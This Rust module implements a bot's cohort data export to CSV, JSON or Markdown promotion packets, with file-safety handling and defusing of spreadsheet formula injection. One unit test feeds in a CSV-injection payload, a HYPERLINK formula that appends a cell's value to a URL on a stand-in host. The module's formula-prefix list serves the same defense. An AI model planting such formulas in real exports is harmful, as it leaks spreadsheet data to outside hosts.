//! `trellis export`: a cohort's check-in answers, impact entries, mentors'
//! notes and Staff paths as CSV or JSON, or one member's promotion packet as
//! Markdown.
//!
//! CSV and JSON hold the same records with the same field names, in this
//! order (the CSV header row):
//!
//! | field | check-in row | impact row |
//! | --- | --- | --- |
//! | `kind` | `checkin` | `impact` |
//! | `cohort` | cohort name | cohort name |
//! | `member_id` | Discord user id (a string in JSON: snowflakes exceed 2^53) | same |
//! | `date` | occurrence date, `YYYY-MM-DD` in the cohort's time zone | date recorded, same |
//! | `track` | the prompt's track | the entry's tracks, comma-separated |
//! | `prompt_id`, `question` | the question as asked | empty / null |
//! | `outcome` | `answered`, `missed`, `paused` or `open` | empty / null |
//! | `answered` | `true` / `false` | empty / null |
//! | `confidence` | 1–5, or empty / null | empty / null |
//! | `answer` | the answer as written, or empty / null | empty / null |
//! | `written_at` | when the answer was last saved (RFC 3339, UTC) | when the entry was recorded |
//! | `what_changed`, `evidence`, `who_benefited`, `link` | empty / null | the entry |
//! | `author_id`, `note`, `step`, `project`, `why_it_matters`, `teams_affected` | empty / null | empty / null |
//!
//! The mentoring loop adds three kinds of row, with the same columns:
//!
//! | field | note row | path_project row | path_step row |
//! | --- | --- | --- | --- |
//! | `kind` | `note` | `path_project` | `path_step` |
//! | `member_id` | the member whose answer it is about | the member | the member |
//! | `date` | the day the note was first written | the day the project was first saved | the day the step was first done |
//! | `track`, `prompt_id`, `question` | of the answered check-in | empty (`track` is `""` in JSON) / null | same |
//! | `written_at` | when the note was last saved | when the project was last saved | when the evidence was last saved |
//! | `author_id` | the mentor (a string in JSON) | empty / null | empty / null |
//! | `note` | the note as written | empty / null | empty / null |
//! | `project`, `why_it_matters`, `teams_affected` | empty / null | the project | empty / null |
//! | `step` | empty / null | empty / null | `expectations`, `problem`, `plan`, `stakeholders`, `mentoring`, `outcomes` or `story` |
//! | `evidence`, `link` | empty / null | empty / null | the step's evidence and link |
//!
//! The other fields are empty / null. One check-in row per member per
//! check-in that was theirs to answer (posted while they were a member, as
//! `/progress` counts it), then one impact row per entry, one note row per
//! mentor's note (in ledger order), one path_project row per member with a
//! project, one path_step row per step done (by member, in path order). Each
//! is a kind of row rather than a table of its own, so the CSV stays one
//! table any reader parses.
//!
//! The export only reads (one connection, read-only), so it is safe while the
//! bot runs. JSON and Markdown keep text exactly as written. CSV is made safe
//! to open in a spreadsheet: a text cell that starts with `=`, `+`, `-`, `@`,
//! TAB or CR (what spreadsheets read as a formula) gets a leading `'`.
//!
//! The records themselves are assembled in [`crate::summary::export`]; this
//! module reads the store and encodes them.

use std::fmt;
use std::io::Write as _;
use std::path::{Path, PathBuf};

use chrono::{DateTime, Utc};

use crate::domain::UserId;
use crate::store::{Store, StoreError};
use crate::summary::export::{CohortRows, HEADER, Record};
use crate::summary::{self, packet};

/// How to encode the export.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Csv,
    Json,
    /// One member's promotion packet (needs `--member`).
    Markdown,
}

/// What to export.
#[derive(Debug, Clone)]
pub struct Request {
    pub cohort: String,
    pub format: Format,
    pub member: Option<UserId>,
}

#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    #[error("no cohort is named `{name}`; {}", known_list(.known))]
    UnknownCohort { name: String, known: Vec<String> },
    #[error("--format markdown is one member's promotion packet: name the member with --member ID")]
    MemberRequired,
    #[error("user {member} has never been a member of cohort `{cohort}`")]
    UnknownMember { member: UserId, cohort: String },
    #[error("{} already exists; give a new file name (an export never overwrites a file)", .0.display())]
    OutExists(PathBuf),
    #[error("cannot write {}: {source}", path.display())]
    Write { path: PathBuf, source: std::io::Error },
    #[error(transparent)]
    Store(#[from] StoreError),
    #[error("cannot encode the CSV: {0}")]
    Csv(#[from] csv::Error),
    #[error("cannot encode the JSON: {0}")]
    Json(#[from] serde_json::Error),
}

fn known_list(known: &[String]) -> String {
    if known.is_empty() {
        "the database has no cohorts yet".into()
    } else {
        format!("known cohorts: {}", known.join(", "))
    }
}

impl fmt::Display for Format {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Format::Csv => "csv",
            Format::Json => "json",
            Format::Markdown => "markdown",
        })
    }
}

/// Render the export as text, reading the store only.
pub async fn render(store: &Store, request: &Request, now: DateTime<Utc>) -> Result<String, ExportError> {
    let Some(cohort) = store.cohort_by_name(&request.cohort).await? else {
        return Err(ExportError::UnknownCohort { name: request.cohort.clone(), known: store.cohort_names().await? });
    };
    let unknown_member = |member| ExportError::UnknownMember { member, cohort: cohort.spec.name.clone() };
    let records = match request.format {
        Format::Markdown => {
            let member = request.member.ok_or(ExportError::MemberRequired)?;
            let h = store.member_history(cohort.id, member).await?.ok_or_else(|| unknown_member(member))?;
            let name = format!("user {member}");
            let path = store.staff_path(cohort.id, member).await?;
            let notes = store.notes_of_member(cohort.id, member).await?;
            let material = packet::PacketMaterial {
                checkins: &h.checkins,
                replies: &h.replies,
                impact: &h.impact,
                path: &path,
                notes: &notes,
            };
            return Ok(packet::render(&cohort, &h.member, &name, &material, now));
        }
        Format::Csv | Format::Json => {
            let activity = store.cohort_activity(cohort.id).await?;
            let (projects, steps) = store.paths_of_cohort(cohort.id).await?;
            let rows = CohortRows {
                checkins: &activity.checkins,
                members: &activity.members,
                replies: store.replies_of_cohort(cohort.id).await?,
                impact: store.impact_of_cohort(cohort.id).await?,
                notes: store.notes_of_cohort(cohort.id).await?,
                projects,
                steps,
            };
            summary::export::records(&cohort, rows, request.member, now)
        }
    };
    if let Some(member) = request.member
        && records.is_empty()
        && store.member(cohort.id, member).await?.is_none()
    {
        return Err(unknown_member(member));
    }
    if request.format == Format::Csv { to_csv(&records) } else { Ok(serde_json::to_string_pretty(&records)? + "\n") }
}

/// RFC 4180: a header row, fields with commas, quotes or line breaks quoted,
/// text cells defused ([`spreadsheet_safe`]).
fn to_csv(records: &[Record]) -> Result<String, ExportError> {
    let mut w = csv::WriterBuilder::new().has_headers(true).from_writer(Vec::new());
    if records.is_empty() {
        // serde writes the header with the first record; an empty export still has one.
        w.write_record(HEADER)?;
    }
    for r in records {
        w.serialize(defused(r.clone()))?;
    }
    let bytes = w.into_inner().map_err(|e| ExportError::Csv(e.into_error().into()))?;
    Ok(String::from_utf8(bytes).expect("CSV of UTF-8 strings is UTF-8"))
}

/// Spreadsheets (Excel, LibreOffice, Google Sheets) run a cell that starts
/// with one of these as a formula: OWASP's "CSV injection".
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `text` as a spreadsheet shows it rather than runs it: a leading `'` when it
/// starts like a formula.
pub fn spreadsheet_safe(text: String) -> String {
    if text.starts_with(FORMULA_STARTS) { format!("'{text}") } else { text }
}

/// Every text cell of a record made spreadsheet-safe.
fn defused(r: Record) -> Record {
    let safe = |t: Option<String>| t.map(spreadsheet_safe);
    Record {
        cohort: spreadsheet_safe(r.cohort),
        track: spreadsheet_safe(r.track),
        prompt_id: safe(r.prompt_id),
        question: safe(r.question),
        answer: safe(r.answer),
        what_changed: safe(r.what_changed),
        evidence: safe(r.evidence),
        who_benefited: safe(r.who_benefited),
        link: safe(r.link),
        note: safe(r.note),
        project: safe(r.project),
        why_it_matters: safe(r.why_it_matters),
        teams_affected: safe(r.teams_affected),
        ..r
    }
}

/// Write the export to a new file readable by its owner only; an existing
/// file is never overwritten (it may be an earlier export or something else).
pub fn write_new_file(path: &Path, content: &str) -> Result<(), ExportError> {
    let mut file = match crate::private_file::create_new(path) {
        Ok(f) => f,
        Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists => return Err(ExportError::OutExists(path.into())),
        Err(source) => return Err(ExportError::Write { path: path.into(), source }),
    };
    let written = file.write_all(content.as_bytes()).and_then(|()| file.sync_all());
    if let Err(source) = written {
        // Leave no half-written export behind.
        let _ = std::fs::remove_file(path);
        return Err(ExportError::Write { path: path.into(), source });
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_header_matches_the_record_fields() {
        let r = Record {
            kind: summary::export::RecordKind::Impact,
            cohort: "c".into(),
            member_id: "1".into(),
            date: "2027-01-04".into(),
            track: "impact".into(),
            prompt_id: None,
            question: None,
            outcome: None,
            answered: None,
            confidence: None,
            answer: None,
            written_at: None,
            what_changed: Some("w".into()),
            evidence: Some("e".into()),
            who_benefited: Some("b".into()),
            link: None,
            author_id: None,
            note: None,
            step: None,
            project: None,
            why_it_matters: None,
            teams_affected: None,
        };
        let json = serde_json::to_value(&r).unwrap();
        let keys: Vec<&str> = json.as_object().unwrap().keys().map(String::as_str).collect();
        let mut sorted_header = HEADER.to_vec();
        sorted_header.sort_unstable();
        let mut sorted_keys = keys.clone();
        sorted_keys.sort_unstable();
        assert_eq!(sorted_keys, sorted_header);
        let csv = to_csv(&[r]).unwrap();
        assert_eq!(csv.lines().next().unwrap(), HEADER.join(","));
        assert_eq!(to_csv(&[]).unwrap().trim_end(), HEADER.join(","));
    }

    #[test]
    fn text_that_starts_like_a_formula_is_quoted_with_an_apostrophe() {
        for (text, safe) in [
            ("=HYPERLINK(\"https://example.invalid/?q=\"&K2,\"details\")", "'=HYPERLINK"),
            ("-35% p95 latency", "'-35% p95 latency"),
            ("+1 for the plan", "'+1"),
            ("@here look", "'@here"),
            ("\tindented", "'\tindented"),
            ("\rcarriage", "'\rcarriage"),
        ] {
            assert!(spreadsheet_safe(text.to_string()).starts_with(safe), "{text:?}");
        }
        for plain in ["shipped it", "p95 -35%", " =not at the start", ""] {
            assert_eq!(spreadsheet_safe(plain.to_string()), plain);
        }
    }
}
